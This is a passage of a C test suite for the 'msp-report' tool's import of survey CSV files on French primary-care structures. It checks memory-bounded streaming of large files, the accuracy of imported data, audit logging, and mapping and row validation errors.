	char filler[BIG_FILLER + 1];
	FILE *f = fopen(path, "w");
	long i, j;

	ck_assert_ptr_nonnull(f);
	memset(filler, 'x', BIG_FILLER);
	filler[BIG_FILLER] = '\0';
	memset(e, 0, sizeof(*e));
	buf_init(&e->texts, BUF_MAX_DOCUMENT);
	fputs("\xef\xbb\xbf" MSFORMS_HEADER, f);
	for (i = 1; i <= BIG_ROWS; i++) {
		long prof = i % 500 + 1, kind = i % 3;
		struct buf text = BUF_INIT(BUF_MAX_TEXT);

		/* a text unique to the row: "acteur" quoted, a line break
		 * every seventh row, and about 1 KB */
		buf_printf(&text, "Usager %ld, \"acteur\" de sa santé%s", i,
			   i % 7 == 0 ? "\r\net ses proches" : "");
		for (j = 0; j < 60; j++)
			buf_printf(&text, " mot%ld", (i * 31 + j) % 1000);
		ck_assert(!text.failed);
		buf_puts(&e->texts, buf_str(&text));
		buf_putc(&e->texts, '\n');
		fprintf(f, "%ld,,,%s,,\"MSP n°%ld, Ville\",%s,%s,%s,%ld,",
			i, filler, i, roles[kind],
			kind == 1 ? "Équipe de soins primaires"
				  : "Maison de santé pluriprofessionnelle",
			kind == 0 ? "Oui" : kind == 2 ? "Non" : "", prof);
		fprintf(f, "%s,%s,%s,\"",
			kind == 0 ? "\"Fonctionnement de la structure, "
				    "horaires;\"" : "Autre;",
			kind == 0 ? "Oui" : "Non",
			kind == 0 ? "Relecture" : "");
		for (j = 0; text.data[j] != '\0'; j++) {
			if (text.data[j] == '"')
				fputc('"', f);
			fputc(text.data[j], f);
		}
		fputs("\"\n", f);
		e->prof_sum += prof;
		e->n_msp += kind != 1;
		e->n_oui += kind == 0;
		buf_free(&text);
	}
	ck_assert(!e->texts.failed);
	ck_assert_int_eq(fclose(f), 0);
}

/*
 * Runs msp-report with args (NULL-terminated, after the program's name)
 * in dir, in a child of its own, and returns its exit status;
 * *maxrss_kib is its peak resident size.
 */
static int
run_measured(const char *dir, const char *secret, char *const args[],
	     long *maxrss_kib, double *seconds)
{
	const char *builddir = getenv("MSP_BUILDDIR");
	char url[512], bin[1024], secret_env[256];
	struct timespec t0, t1;
	struct rusage ru;
	int status = -1;
	pid_t pid;

	snprintf(url, sizeof(url), "host=%s port=%s user=%s dbname=%s",
		 PQhost(db.conn), PQport(db.conn), PQuser(db.conn),
		 PQdb(db.conn));
	snprintf(bin, sizeof(bin), "%s/cli/msp-report",
		 builddir != NULL ? builddir : ".");
	snprintf(secret_env, sizeof(secret_env), "%s", secret);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	pid = fork();
	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		const char *asan = getenv("ASAN_OPTIONS");
		char asan_opts[512];

		/* AddressSanitizer keeps 256 MB of freed blocks by default
		 * (its quarantine): far more than this bound; 8 MB still
		 * catches a use after free of the last records */
		snprintf(asan_opts, sizeof(asan_opts), "%s%squarantine_size_mb"
			 "=8", asan != NULL ? asan : "",
			 asan != NULL && asan[0] ? ":" : "");
		if (chdir(dir) != 0 ||
		    setenv("MSP_DATABASE_URL", url, 1) != 0 ||
		    setenv("MSP_SECRET_FILE", secret_env, 1) != 0 ||
		    setenv("ASAN_OPTIONS", asan_opts, 1) != 0 ||
		    unsetenv("MSP_TOKEN") != 0 ||
		    freopen("/dev/null", "w", stdout) == NULL)
			_exit(126);
		execv(bin, args);
		_exit(127);
	}
	ck_assert_int_eq(wait4(pid, &status, 0, &ru), pid);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	*maxrss_kib = ru.ru_maxrss;	/* Linux: KiB */
	*seconds = (double)(t1.tv_sec - t0.tv_sec) +
		   (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

/* msp-report import of file (in dir) through msforms.map, measured. */
static int
run_import_measured(const char *dir, const char *secret, const char *file,
		    long *maxrss_kib, double *seconds)
{
	char *const args[] = { "msp-report", "import", "-q", "--study",
			       STUDY, "-m", "msforms.map",
			       (char *)(uintptr_t)file,
			       NULL };

	return run_measured(dir, secret, args, maxrss_kib, seconds);
}

/*
 * What the import of the 57 MB file may hold beyond the import of the
 * 3-row msforms.csv, in KiB (peak resident sizes, same build, same
 * options): one record, one batch of 1,000 rows (their JSON, their
 * copies, libpq's buffer) and the allocator's slack.  The sanitizer
 * build's own overhead (its runtime, shadow memory, an 8 MB quarantine)
 * is in both figures; bench/import.sh measures the plain build against
 * the 50 MB target (17 MB measured).  An import that held the file, or
 * its rows, could not pass: the file is nearly 3 times the bound.
 * (Measured: 96 KiB more, on top of 53 MB for the sanitizer build.)
 */
#define BIG_EXTRA_KIB (20L * 1024)

/* Answers of imported responses only (the reference studies have
 * some). */
#define IMPORTED \
	" AND response_id IN (SELECT response_id FROM msp.response" \
	" WHERE idempotency_key LIKE 'import:%')"

START_TEST(a_file_larger_than_memory_is_streamed)
{
	char dir[] = "/tmp/msp-big-XXXXXX", path[1024], secret[256];
	char sql[1024], sha[CRYPTO_SHA256_HEX];
	struct big_expect e;
	struct msp_error err;
	struct stat sb;
	long maxrss = 0, small_rss = 0, audit_before;
	double seconds = 0;
	FILE *f;

	ck_assert_ptr_nonnull(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/big.csv", dir);
	write_big_file(path, &e);
	ck_assert_int_eq(stat(path, &sb), 0);
	ck_assert_int_gt((long)sb.st_size, 2 * BIG_EXTRA_KIB * 1024);
	/* one call a command: testdb_srcpath() returns a static buffer */
	snprintf(path, sizeof(path), "cp '%s' '%s'",
		 testdb_srcpath("tests/data/import/msforms.map"), dir);
	ck_assert_int_eq(system(path), 0);
	snprintf(path, sizeof(path), "cp '%s' '%s'",
		 testdb_srcpath("tests/data/import/msforms.csv"), dir);
	ck_assert_int_eq(system(path), 0);
	snprintf(secret, sizeof(secret), "%s/secret", dir);
	ck_assert_ptr_nonnull(f = fopen(secret, "w"));
	ck_assert_uint_eq(fwrite(key_bytes, 1, sizeof(key_bytes), f),
			  sizeof(key_bytes));
	ck_assert_int_eq(fclose(f), 0);

	ck_assert_int_eq(run_import_measured(dir, secret, "msforms.csv",
					     &small_rss, &seconds), 0);
	ck_assert_int_eq(imported(), 3);
	exec_sql("DELETE FROM msp.response"
		 " WHERE idempotency_key LIKE 'import:%'");
	audit_before = count("SELECT count(*) FROM msp_audit.log"
			     " WHERE table_name = 'response'"
			     " AND operation = 'INSERT'"
			     " AND actor = 'import'");
	ck_assert_int_eq(run_import_measured(dir, secret, "big.csv", &maxrss,
					     &seconds), 0);
	fprintf(stderr, "check_import: %ld-byte file, %d rows imported in "
		"%.1f s, peak resident %ld KiB; 3-row file: %ld KiB (bound: "
		"%ld KiB more)\n", (long)sb.st_size, BIG_ROWS, seconds,
		maxrss, small_rss, BIG_EXTRA_KIB);
	ck_assert_msg(small_rss > 0 && maxrss - small_rss < BIG_EXTRA_KIB,
		      "peak resident size %ld KiB, %ld KiB for 3 rows; bound "
		      "%ld KiB more", maxrss, small_rss, BIG_EXTRA_KIB);

	/* every row, as the generator wrote it */
	ck_assert_int_eq(imported(), BIG_ROWS);
	ck_assert_int_eq(count("SELECT count(DISTINCT structure_id) FROM"
			       " msp.response WHERE idempotency_key LIKE"
			       " 'import:%'"), BIG_ROWS);
	ck_assert_int_eq(count("SELECT sum(num_value) FROM msp.answer"
			       " WHERE item_key = 'prof_count_total'"
			       IMPORTED), e.prof_sum);
	ck_assert_int_eq(count("SELECT count(*) FROM msp.answer"
			       " WHERE choice_code = 'msp'" IMPORTED),
			 e.n_msp);
	ck_assert_int_eq(count("SELECT count(*) FROM msp.answer"
			       " WHERE item_key = 'info_with_users'"
			       " AND choice_code = 'oui'" IMPORTED),
			 e.n_oui);
	/* the texts, in the order of the file's ID column (the last part
	 * of the key), hashed here and there */
	ck_assert_int_eq(crypto_sha256_hex(e.texts.data, e.texts.len, sha,
					   &err), MSP_OK);
	snprintf(sql, sizeof(sql),
		 "SELECT encode(sha256(convert_to(string_agg(a.text_value"
		 " || E'\\n', '' ORDER BY split_part(r.idempotency_key, ':',"
		 " 6)::integer), 'UTF8')), 'hex') FROM msp.response r"
		 " JOIN msp.answer a USING (response_id)"
		 " WHERE a.item_key = 'def_usager'"
		 " AND r.idempotency_key LIKE 'import:%%'");
	ck_assert_str_eq(testdb_value(db.conn, sql), sha);
	/* the audit log has the import's rows, as for a row at a time */
	ck_assert_int_eq(count("SELECT count(*) FROM msp_audit.log"
			       " WHERE table_name = 'response'"
			       " AND operation = 'INSERT'"
			       " AND actor = 'import'") - audit_before,
			 BIG_ROWS);
	buf_free(&e.texts);
	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	ck_assert_int_eq(system(path), 0);
}
END_TEST

/*
 * A frame list wider than the bound: FRAME_ROWS structures, each with
 * FRAME_FILLER bytes of an unmapped comment (64 MiB in all).  frame
 * import reads it a record at a time and keeps the rows (a pseudonym
 * and a few short values each).
 */
#define FRAME_ROWS 2048
#define FRAME_FILLER (32 * 1024)

/*
 * What the 64 MiB list may hold beyond a one-row list, in KiB.  The
 * sanitizer build keeps freed 32 KiB cells in its 8 MB quarantine and
 * its size classes' caches: 16.8 and 19.3 MB more were measured, where
 * the plain build holds 14 MB in all.  The list held whole as text and
 * parsed, as before, is more than three times this bound.
 */
#define FRAME_EXTRA_KIB (40L * 1024)

/* The study's frame: its active structures, their sites, its ESPs. */
static void
frame_totals(long t[3])
{
	static const char *const what[3] = {
		"count(*)", "coalesce(sum(st.n_sites), 0)",
		"count(*) FILTER (WHERE st.structure_type = 'esp')" };
	char sql[512];
	int i;

	for (i = 0; i < 3; i++) {
		snprintf(sql, sizeof(sql),
			 "SELECT %s FROM msp.population p"
			 " JOIN msp.study s USING (study_id)"
			 " JOIN msp.structure st USING (structure_id)"
			 " WHERE s.slug = '%s' AND p.active", what[i], STUDY);
		t[i] = count(sql);
	}
}

START_TEST(a_large_frame_is_streamed)
{
	char dir[] = "/tmp/msp-frame-XXXXXX", path[1024], secret[256];
	char filler[FRAME_FILLER + 1];
	char *const small[] = { "msp-report", "frame", "import", "--study",
				STUDY, "--mapping", "frame.map", "small.csv",
				NULL };
	char *const big[] = { "msp-report", "frame", "import", "--study",
			      STUDY, "--mapping", "frame.map", "big.csv",
			      NULL };
	long maxrss = 0, small_rss = 0, sites = 0, n_esp = 0, i;
	long before[3], after[3];
	double seconds = 0;
	struct stat sb;
	FILE *f;

	ck_assert_ptr_nonnull(mkdtemp(dir));
	memset(filler, 'x', FRAME_FILLER);
	filler[FRAME_FILLER] = '\0';
	snprintf(path, sizeof(path), "%s/frame.map", dir);
	ck_assert_ptr_nonnull(f = fopen(path, "w"));
	fputs("\"N° FINESS\" = finess\nType = structure_type\n"
	      "Sites = n_sites\nCommentaire = @ignore\n", f);
	ck_assert_int_eq(fclose(f), 0);
	snprintf(path, sizeof(path), "%s/small.csv", dir);
	ck_assert_ptr_nonnull(f = fopen(path, "w"));
	fputs("N° FINESS,Type,Sites,Commentaire\n"
	      "819000001,msp,1,court\n", f);
	ck_assert_int_eq(fclose(f), 0);
	/* the expected sums counted as the file is written */
	snprintf(path, sizeof(path), "%s/big.csv", dir);
	ck_assert_ptr_nonnull(f = fopen(path, "w"));
	fputs("N° FINESS,Type,Sites,Commentaire\n", f);
	for (i = 0; i < FRAME_ROWS; i++) {
		long n = i % 9 + 1;

		fprintf(f, "%ld,%s,%ld,\"%s\"\n", 810000000L + i,
			i % 4 == 0 ? "esp" : "msp", n, filler);
		sites += n;
		n_esp += i % 4 == 0;
	}
	ck_assert_int_eq(fclose(f), 0);
	ck_assert_int_eq(stat(path, &sb), 0);
	ck_assert_int_gt((long)sb.st_size, 3 * FRAME_EXTRA_KIB * 1024 / 2);
	snprintf(secret, sizeof(secret), "%s/secret", dir);
	ck_assert_ptr_nonnull(f = fopen(secret, "w"));
	ck_assert_uint_eq(fwrite(key_bytes, 1, sizeof(key_bytes), f),
			  sizeof(key_bytes));
	ck_assert_int_eq(fclose(f), 0);

	ck_assert_int_eq(run_measured(dir, secret, small, &small_rss,
				      &seconds), 0);
	frame_totals(before);
	ck_assert_int_eq(run_measured(dir, secret, big, &maxrss, &seconds),
			 0);
	fprintf(stderr, "check_import: frame of %ld bytes, %d structures "
		"in %.1f s, peak resident %ld KiB; 1-row list: %ld KiB "
		"(bound: %ld KiB more)\n", (long)sb.st_size, FRAME_ROWS,
		seconds, maxrss, small_rss, FRAME_EXTRA_KIB);
	ck_assert_msg(small_rss > 0 && maxrss - small_rss < FRAME_EXTRA_KIB,
		      "peak resident size %ld KiB, %ld KiB for 1 row; bound "
		      "%ld KiB more", maxrss, small_rss, FRAME_EXTRA_KIB);
	/* every structure of the list added to the study's frame, as
	 * written */
	frame_totals(after);
	ck_assert_int_eq(after[0] - before[0], FRAME_ROWS);
	ck_assert_int_eq(after[1] - before[1], sites);
	ck_assert_int_eq(after[2] - before[2], n_esp);
	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	ck_assert_int_eq(system(path), 0);
}
END_TEST

/* --- the DB-free entry points, on what a fuzzer would send ---------- */

START_TEST(mapping_errors_name_the_line)
{
	static const struct {
		const char *text, *message;
	} cases[] = {
		{ "a = x\n\"b = y\n", "line 2: a quoted string is never "
		  "closed" },
		{ "a = x\na = y\n", "line 2: the column is already mapped "
		  "on line 1" },
		{ "\"v\" -> x\n", "line 1: a value mapping before any "
		  "column" },
		{ "a = @who\n", "line 1: '@who' is not a target (an item, "
		  "ITEM[OPTION], @structure, @pseudonym, @role, @id, "
		  "@status, @submitted or @ignore)" },
		{ "a = @role\nb = @role\n", "line 2: @role is already the "
		  "column on line 1" },
		{ "a = x[]\n", "line 1: 'x[]' is not a target (an item, "
		  "ITEM[OPTION], @structure, @pseudonym, @role, @id, "
		  "@status, @submitted or @ignore)" },
		{ "a x\n", "line 1: expected 'COLUMN = TARGET' or "
		  "'\"VALUE\" -> CODE'" },
		{ "a = x\n  \"v\" -> a\n  \"v\" -> b\n", "line 3: this value "
		  "is already mapped for the column" },
		{ "\"a\" b = x\n", "line 1: expected 'COLUMN = TARGET' or "
		  "'\"VALUE\" -> CODE'" },
		{ "a = \"x\" y\n", "line 1: text after the closing quote" },
		{ "# ok\n\xff = x\n", "line 2: not UTF-8 text" },
	};
	struct msp_error err;
	struct csvmap *map;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		ck_assert_int_eq(csvmap_parse(cases[i].text,
					      strlen(cases[i].text), &map,
					      &err), MSP_EINVAL);
		ck_assert_ptr_null(map);
		ck_assert_str_eq(err.message, cases[i].message);
	}
}
END_TEST

START_TEST(mapping_is_checked_against_the_instrument)
{
	static const struct {
		const char *text, *message;
	} cases[] = {
		{ "s = @structure\nc = nope\n", "mapping line 2: no item "
		  "'nope' in " STUDY },
		{ "s = @structure\nc = structure_type[msp]\n", "mapping line "
		  "2: structure_type is not a multiple choice" },
		{ "s = @structure\nc = info_content[x]\n", "mapping line 2: "
		  "info_content has no option 'x'" },
		{ "s = @structure\nc = structure_type\n  A1 -> cds\n",
		  "mapping line 2: 'cds' is not a code of structure_type" },
		{ "s = @structure\nr = @role\n  A1 -> chef\n", "mapping line "
		  "2: 'chef' is not a code of @role" },
		{ "c = structure_type\n", "the mapping must name one column "
		  "for the structure: @structure (identifiers) or "
		  "@pseudonym" },
		{ "s = @structure\nmissing = structure_type\n", "column "
		  "\"missing\" (mapping line 2) is not in the file's "
		  "header" },
	};
	const char header_text[] = "s,r,c\n";
	struct import_study study;
	struct csvmap_binding *b;
	struct msp_error err;
	struct csvmap *map;
	struct csv *csv;
	const char *roles[] = { "coordinateur" };
	size_t i;

	ck_assert_int_eq(import_enter_study(db.conn, NULL, STUDY, &study,
					    &err), MSP_OK);
	ck_assert_int_eq(csv_parse(header_text, strlen(header_text), 0, &csv,
				   &err), MSP_OK);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		ck_assert_int_eq(csvmap_parse(cases[i].text,
					      strlen(cases[i].text), &map,
					      &err), MSP_OK);
		ck_assert_int_eq(csvmap_bind(map, &csv->rows[0], study.ins,
					     roles, 1, &b, &err),
				 MSP_EINVAL);
		ck_assert_ptr_null(b);
		ck_assert_str_eq(err.message, cases[i].message);
		csvmap_free(map);
	}
	csv_free(csv);
	import_study_clear(&study);
}
END_TEST

/* One row through csvmap_row(), the function a fuzzer drives. */
START_TEST(row_cells_become_answers)
{
	static const char map_text[] =
		"p = @pseudonym\nt = @submitted\nst = @status\n"
		"n = prof_count_total\nb = aci_signatory\n"
		"k = structure_type\ni = info_content[autre]\n";
	static const char text[] =
		"p,t,st,n,b,k,i\n"
		/* decimal comma refused for an integer item, Y, label */
		"%s,2024-02-30 10:00,partial,\"12,5\",Y,msp,peut-etre\n"
		"%s,2024-02-29 10:00:59Z,,7,n,esp,2\n";
	char data[1024], pseudonym[CRYPTO_SHA256_HEX];
	struct import_study study;
	struct csvmap_binding *b;
	struct csvmap_record rec;
	const struct field_error *fe;
	struct msp_error err;
	struct csvmap *map;
	struct csv *csv;
	const char *roles[] = { "coordinateur" };
	size_t n;

	ck_assert_int_eq(secret_pseudonym(&key, "x", pseudonym, &err),
			 MSP_OK);
	snprintf(data, sizeof(data), text, pseudonym, "nothex");
	ck_assert_int_eq(import_enter_study(db.conn, NULL, STUDY, &study,
					    &err), MSP_OK);
	ck_assert_int_eq(csv_parse(data, strlen(data), 0, &csv, &err),
			 MSP_OK);
	ck_assert_int_eq(csvmap_parse(map_text, strlen(map_text), &map,
				      &err), MSP_OK);
	ck_assert_int_eq(csvmap_bind(map, &csv->rows[0], study.ins, roles, 1,
				     &b, &err), MSP_OK);
	ck_assert_int_eq(csvmap_row(b, &csv->rows[1], NULL, &rec, &err),
			 MSP_EINVAL);
	fe = submission_errors(rec.sub, &n);
	ck_assert_uint_eq(n, 3);
	ck_assert_str_eq(fe[0].field, "info_content");
	ck_assert_str_eq(fe[1].field, "@submitted");	/* no 30 February */
	ck_assert_str_eq(fe[2].field, "prof_count_total");
	ck_assert_str_eq(fe[2].message, "un nombre entier est attendu");
	ck_assert_int_eq(rec.complete, 0);
	csvmap_record_clear(&rec);
	/* a bad pseudonym; "n" is non; esp hides aci_signatory */
	ck_assert_int_eq(csvmap_row(b, &csv->rows[2], NULL, &rec, &err),
			 MSP_EINVAL);
	fe = submission_errors(rec.sub, &n);
	ck_assert_uint_eq(n, 3);
	ck_assert_str_eq(fe[0].field, "info_content");
	ck_assert_str_eq(fe[1].field, "@pseudonym");
	ck_assert_str_eq(fe[2].field, "aci_signatory");
	csvmap_record_clear(&rec);
	csvmap_binding_free(b);
	csvmap_free(map);
	csv_free(csv);
	import_study_clear(&study);
}
END_TEST

static Suite *
import_suite(void)
{
	Suite *s = suite_create("import");
	TCase *tc = tcase_create("core"), *big;

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, msforms_file_is_imported);
	tcase_add_test(tc, limesurvey_file_is_imported);
	tcase_add_test(tc, bad_rows_store_nothing_and_are_all_listed);
	tcase_add_test(tc, reimport_stores_nothing_twice);
	tcase_add_test(tc, the_token_decides_what_may_be_written);
	tcase_add_test(tc, export_then_import_gives_the_same_answers);
	tcase_add_test(tc, cli_imports_and_lists_refusals);
	tcase_add_test(tc, mapping_errors_name_the_line);
	tcase_add_test(tc, mapping_is_checked_against_the_instrument);
	tcase_add_test(tc, row_cells_become_answers);
	tcase_add_test(tc, replays_in_one_file_and_changed_rows);
	tcase_add_test(tc, legacy_pseudonyms_are_found_in_batches);
	tcase_add_test(tc, an_analyze_midway_keeps_lookups_on_the_index);
	suite_add_tcase(s, tc);
	big = tcase_create("large file");
	tcase_add_checked_fixture(big, setup, teardown);
	tcase_set_timeout(big, 600);
	tcase_add_test(big, a_file_larger_than_memory_is_streamed);
	tcase_add_test(big, a_large_frame_is_streamed);
	suite_add_tcase(s, big);
	return s;
}

int
main(void)
{
	return testdb_run(import_suite());
}
